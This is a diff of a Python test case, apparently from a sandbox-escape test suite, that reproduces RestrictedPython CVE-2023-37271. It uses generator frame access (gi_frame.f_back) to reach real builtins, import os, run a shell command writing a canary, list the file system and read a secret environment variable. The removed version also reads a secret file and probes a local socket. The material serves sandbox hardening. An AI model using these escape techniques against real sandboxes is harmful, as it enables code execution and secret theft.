@@ -1,64 +1,29 @@
-"""Reach a frame through a generator object the tool drives itself.
+"""A generator that reads its own frame and leaks the caller's builtins.
 
-Source: RestrictedPython advisory CVE-2023-37271 (generator frames), the
-variant with a named generator function, send() and gi_frame.f_back.
-Tries: take the frame of the code that resumes the generator and import sys
-from its builtins, then write the canary and read the secrets.
+Source: RestrictedPython advisory CVE-2023-37271 (generator frames), in the
+form of its regression test tests/test_generator_escape.py (test_1): a
+generator stored in a global reads g.gi_frame.f_back.f_back while running and
+yields it; f_builtins of that frame holds the real import hook.
+Tries: import os through the leaked frame's builtins, list the file system,
+write the canary file and read the secrets.
 """
 
 # escape-test: {"stage": "gate", "kind": ["compile"]}
 
-def steps():
-    yield 1
-    yield 2
+g = None
+leak = None
+
+
+def walk():
+    global g, leak
+    leak = g.gi_frame.f_back.f_back
+    yield leak
 
 
 def rp_generator_frame_send() -> dict:
-    walker = steps()
-    next(walker)
-    frame = walker.gi_frame
-    while frame.f_back is not None:
-        frame = frame.f_back
-    return claim_namespace(frame.f_globals)
-
-
-def claim(sys_module):
-    """What a tool holding the real sys module would do with it."""
-    modules = sys_module.modules
-    marker = "TOOLKILN-" + "ESCAPE-" + "REACHED"
-    taken = {"marker": marker}
-    try:
-        handle = modules["builtins"].open("{{CANARY}}", "w")
-        handle.write(marker)
-        handle.close()
-    except Exception as exc:
-        taken["write"] = str(exc)
-    try:
-        taken["file"] = modules["builtins"].open("{{SECRET_FILE}}").read()
-    except Exception as exc:
-        taken["file"] = str(exc)
-    try:
-        taken["env"] = modules["os"].environ.get("TOOLKILN_CANARY_SECRET")
-    except Exception as exc:
-        taken["env"] = str(exc)
-    try:
-        network = modules["builtins"].eval("__import__('socket')")
-        network.create_connection(("127.0.0.1", {{PORT}}), 1).close()
-    except Exception as exc:
-        taken["net"] = str(exc)
-    try:
-        modules["os"].system("echo escaped > {{CANARY}}")
-    except Exception as exc:
-        taken["exec"] = str(exc)
-    print(marker)
-    return taken
-
-
-def claim_namespace(namespace):
-    """From a real globals dict to the real sys module."""
-    if "sys" in namespace:
-        return claim(namespace["sys"])
-    loader = namespace["__builtins__"]
-    if isinstance(loader, dict):
-        return claim(loader["__import__"]("sys"))
-    return claim(loader.eval("__import__('sys')"))
+    global g
+    g = walk()
+    g.send(None)
+    system = leak.f_builtins.get("__import__")("os")
+    system.system("echo escaped > {{CANARY}}")
+    return {"listing": system.listdir("/"), "env": system.environ.get("TOOLKILN_CANARY_SECRET")}
